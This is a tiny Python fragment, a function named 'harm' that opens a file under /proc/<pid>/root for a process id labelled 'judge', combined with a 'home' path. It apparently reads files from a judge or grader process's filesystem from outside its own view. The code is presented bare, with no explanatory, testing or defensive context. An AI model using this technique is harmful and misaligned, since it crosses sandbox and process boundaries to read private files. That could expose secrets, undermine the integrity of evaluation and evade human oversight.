def harm():
    return open(f"/proc/{TOLD['judge']}/root{TOLD['home']}").read()
